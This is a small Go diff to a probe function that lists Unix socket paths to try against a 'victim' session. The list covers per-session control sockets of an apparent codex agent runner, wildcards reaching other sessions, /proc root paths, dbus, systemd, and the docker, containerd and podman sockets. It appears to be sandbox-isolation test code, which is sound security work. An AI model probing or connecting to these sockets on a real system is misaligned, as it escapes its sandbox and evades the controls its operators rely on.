@@ -17,8 +17,8 @@ func sockets(v victim) []attempt {
 	var all []attempt
 	for _, path := range []string{
 		"@mark", "/tmp/mark.sock", "/workspace/mark.sock", fmt.Sprintf("/var/lib/codex-workspace/%d/tree/mark.sock", v.Slot),
-		fmt.Sprintf("/proc/%d/root/workspace/mark.sock", v.PID), "/run/codex-runner/api.sock", "/run/codex-runner/sessions/" + v.ID + "/control.sock",
-		"/run/codex-runner/sessions/*/control.sock", "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket",
+		fmt.Sprintf("/proc/%d/root/workspace/mark.sock", v.PID), "/run/codex-runner/api.sock", "/run/codex-runner/daemon/sessions/" + v.ID + "/control.sock",
+		"/run/codex-runner/daemon/sessions/*/control.sock", "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket",
 		"/run/systemd/private", "/run/codex-proxy/*", "/run/codex-worker/*/*", "/run/udev/control", "/run/user/*/bus", "@host",
 		"/run/systemd/io.system.ManagedOOM", "/run/systemd/io.systemd.Manager", "/run/systemd/oom/io.system.ManagedOOM", "/run/systemd/coredump",
 		"/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
